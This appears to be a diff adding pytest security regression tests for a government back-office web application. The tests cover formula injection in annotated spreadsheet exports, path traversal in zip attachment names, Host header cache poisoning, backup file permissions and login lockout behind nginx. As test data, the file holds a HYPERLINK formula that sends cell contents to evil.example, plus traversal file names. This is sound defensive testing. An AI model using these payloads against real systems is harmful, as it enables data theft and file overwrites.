@@ -1,0 +1,203 @@
+"""Holes found by a second attacker's walk through the running back-office: the import's
+annotated copies, ...
+
+Each test failed before its fix (see the commit that added it)."""
+
+import csv
+import io
+import os
+import re
+import stat
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+import requests
+import sqlalchemy as sa
+import xlsxwriter
+from docx import Document
+
+from backoffice.extensions import db
+from backoffice.models import Attachment, Contact, Opinion, SecurityEvent, Unit
+from backoffice.public.review import approve, reviewable
+from tests.backoffice.html_forms import form_data
+from tests.backoffice.imports.tables import NEW_SESSION, opinion_row
+from tests.backoffice.imports.test_import_pages import BASE, preview_token, upload
+from tests.conftest import PASSWORD, csrf_token
+from tests.importers.workbook_builders import OPINION_HEADER
+from tests.probe.served import serve, stop
+
+GUNICORN_CONFIG = str(Path(__file__).resolve().parents[3] / "deploy" / "gunicorn.conf.py")
+SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+# Text a spreadsheet runs when it is a formula: it calls a server with what it reads.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def _sheet_with_formula_text(path, rows) -> None:
+    """Write rows to path (.xlsx or .csv), every cell as text, as a unit's sheet may hold."""
+    if path.suffix == ".csv":
+        with path.open("w", newline="", encoding="utf-8-sig") as out:
+            csv.writer(out).writerows(rows)
+        return
+    with xlsxwriter.Workbook(str(path)) as book:
+        sheet = book.add_worksheet("城市建设和管理")
+        for r, row in enumerate(rows):
+            for c, value in enumerate(row):
+                sheet.write_string(r, c, str(value))
+
+
+@SQLITE_ONLY
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_the_annotated_copy_keeps_text_as_text_and_takes_any_character(
+        app, as_user, tmp_path, suffix) -> None:
+    with app.app_context():
+        rows = [OPINION_HEADER, opinion_row(1, 主办单位=FORMULA),
+                # A vertical tab, as a cell pasted from another program may hold: the
+                # annotated copy failed (openpyxl takes no control character).
+                opinion_row(2, 主办单位="不存在的\x0b单位", 案由="关于\x0b路灯\x1f的建议"),
+                opinion_row(3)]
+    path = tmp_path / f"交办清单{suffix}"
+    _sheet_with_formula_text(path, rows)
+    client = as_user("operator")
+    token = preview_token(upload(client, path, new_session_name=NEW_SESSION))
+    annotated = client.get(f"{BASE}/preview/{token}/annotated/0")
+    assert annotated.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(annotated.data))
+    annotated.close()
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    # In the list of problems (单元格内容) and in the copied sheet alike.
+    assert [cell.data_type for cell in cells if cell.value == FORMULA] == ["s", "s"]
+    assert "不存在的单位" in [cell.value for cell in cells]
+
+
+@SQLITE_ONLY
+def test_an_attachments_name_never_climbs_out_of_the_case_files_zip(app, as_user) -> None:
+    # A name made to climb out of the folder an office PC unpacks the 一案一册 zip into
+    # (Windows tools split names at "\"); sent as a quoted string, each "\" doubled.
+    client = as_user("pujiang")
+    with app.app_context():
+        opinion_id = db.session.scalar(sa.select(Opinion.id).join(Opinion.lead_unit).where(
+            Unit.name == "浦江镇").order_by(Opinion.id).limit(1))
+    for name in ("..\\\\..\\\\..\\\\启动\\\\答复.pdf", "子目录/答复函.pdf"):
+        sent = client.post("/admin/opinion/attachments/", content_type="multipart/form-data",
+                           data={"csrf_token": csrf_token(client, "/account/password"),
+                                 "opinion_id": str(opinion_id), "kind": "答复函",
+                                 "file": (io.BytesIO(b"%PDF-1.4 x"), name)})
+        assert sent.status_code == 302
+    with app.app_context():
+        names = db.session.scalars(sa.select(Attachment.original_name).where(
+            Attachment.opinion_id == opinion_id).order_by(Attachment.id.desc()).limit(2)).all()
+    assert names == ["答复函.pdf", "答复.pdf"]
+    with app.app_context():  # a name stored before uploads were cleaned, or imported
+        db.session.execute(sa.update(Attachment).where(Attachment.original_name == "答复.pdf")
+                           .values(original_name="..\\..\\启动/答复.pdf"))
+        db.session.commit()
+    packed = client.get(f"/admin/opinion/case_file/zip?id={opinion_id}")
+    with zipfile.ZipFile(io.BytesIO(packed.data)) as archive:
+        members = archive.namelist()
+    assert all("\\" not in m and ".." not in m.split("/") and m.count("/") <= 1
+               for m in members), members
+
+
+@SQLITE_ONLY
+def test_a_forged_host_never_names_itself_in_what_the_public_site_lets_proxies_keep(
+        app) -> None:
+    # The public answers are `public, max-age`: one built for a forged Host header would be
+    # served from a proxy's cache to everyone. TRUSTED_HOSTS names the site's own names.
+    with app.app_context():
+        approve(db.session, db.session.scalar(
+            sa.select(Opinion.id).where(reviewable()).order_by(Opinion.id).limit(1)), "operator")
+        db.session.commit()
+    app.config["TRUSTED_HOSTS"] = ["backoffice.example.gov.cn"]
+    anonymous = app.test_client()
+    for url in ("/public/feed.json", "/public/", "/login", "/admin/"):
+        for accept in ("text/html", "application/json"):
+            forged = anonymous.get(url, headers={"Host": "evil.example", "Accept": accept,
+                                                 "Referer": "http://evil.example/"})
+            body = forged.get_data(as_text=True)
+            if accept == "application/json":
+                body = forged.json["message"]
+            assert forged.status_code == 400, (url, accept)
+            assert "网址" in body and "evil.example" not in body, (url, accept, body)
+            assert "public" not in forged.headers.get("Cache-Control", ""), url
+    feed = anonymous.get("/public/feed.json", headers={"Host": "backoffice.example.gov.cn"})
+    assert feed.json["replies"][0]["url"].startswith("http://backoffice.example.gov.cn/public/")
+
+
+@SQLITE_ONLY
+def test_a_control_character_in_a_units_note_never_breaks_the_office_documents(
+        app, as_user) -> None:
+    # Word's XML holds no control character but tab and line breaks: python-docx refused
+    # the whole 一案一册 for a unit's vertical tab (pasted from Excel) in a contact note.
+    with app.app_context():
+        opinion_id = db.session.scalar(sa.select(Opinion.id).join(Opinion.lead_unit).where(
+            Unit.name == "浦江镇").order_by(Opinion.id).limit(1))
+    unit = as_user("pujiang")
+    url = f"/admin/opinion/edit/?id={opinion_id}"
+    form = form_data(unit.get(url).get_data(as_text=True))
+    form.update({"contacts-0-note": "电话\x0b联系\x1f过\x08", "contacts-0-stage": "办中",
+                 "contacts-0-method": "电话", "contacts-0-contacted_on": "2018-03-01"})
+    assert unit.post(url, data=form).status_code == 302
+    with app.app_context():
+        assert db.session.scalar(sa.select(Contact.note).where(
+            Contact.opinion_id == opinion_id, Contact.note.like("电话%")))
+    for kind in ("docx", "zip"):
+        printed = unit.get(f"/admin/opinion/case_file/{kind}?id={opinion_id}")
+        assert printed.status_code == 200, kind
+    with zipfile.ZipFile(io.BytesIO(printed.data)) as archive:
+        [docx] = [name for name in archive.namelist() if name.endswith(".docx")]
+        document = Document(io.BytesIO(archive.read(docx)))
+    text = "\n".join(cell.text for table in document.tables for row in table.rows
+                     for cell in row.cells)
+    assert "电话联系过" in text
+
+
+@SQLITE_ONLY
+def test_a_backup_is_readable_by_its_owner_alone(app, tmp_path) -> None:
+    # It holds every password hash, second-factor secret and phone number.
+    archive = tmp_path / "backup.tar.gz"
+    before = os.umask(0o022)  # a login shell's usual mask: new files readable by all
+    try:
+        made = app.test_cli_runner().invoke(args=["backup", str(archive)])
+    finally:
+        os.umask(before)
+    assert made.exit_code == 0, made.output
+    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
+
+
+def _sign_in_over_http(session: requests.Session, base: str, username: str,
+                       password: str, address: str) -> requests.Response:
+    """Sign in as nginx passes a client on: its address last in X-Forwarded-For."""
+    headers = {"X-Forwarded-For": f"10.9.9.9, {address}"}  # the first one, the client wrote
+    page = session.get(base + "/login", headers=headers, timeout=15).text
+    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)[1]
+    return session.post(base + "/login", headers=headers, allow_redirects=False, timeout=15,
+                        data={"username": username, "password": password, "csrf_token": token})
+
+
+@SQLITE_ONLY
+def test_behind_nginx_one_clients_wrong_passwords_lock_that_client_alone(
+        app, database_url, tmp_path) -> None:
+    # deploy/gunicorn.conf.py serves behind nginx on this host: every client came from
+    # 127.0.0.1 unless the app believes nginx's X-Forwarded-For, so anyone's few wrong
+    # passwords locked the whole office out, and the security log named no client.
+    served = serve(app, database_url, tmp_path, ("-c", GUNICORN_CONFIG, "--workers", "1"),
+                   workers=1, BACKOFFICE_LOGIN_ADDRESS_MAX_FAILURES="3")
+    try:
+        for attempt in range(3):
+            refused = _sign_in_over_http(requests.Session(), served.base, f"guess{attempt}",
+                                         "wrong-password-1", "203.0.113.7")
+            assert refused.status_code == 200
+        signed_in = _sign_in_over_http(requests.Session(), served.base, "operator", PASSWORD,
+                                       "198.51.100.9")
+        assert signed_in.status_code == 302, signed_in.text[:300]
+        locked = _sign_in_over_http(requests.Session(), served.base, "leader", PASSWORD,
+                                    "203.0.113.7")
+        assert "尝试次数过多" in locked.text
+    finally:
+        stop(served)
+    with app.app_context():
+        addresses = dict(db.session.execute(sa.select(SecurityEvent.username,
+                                                      SecurityEvent.client_address)).all())
+    assert addresses["guess0"] == "203.0.113.7" and addresses["operator"] == "198.51.100.9"
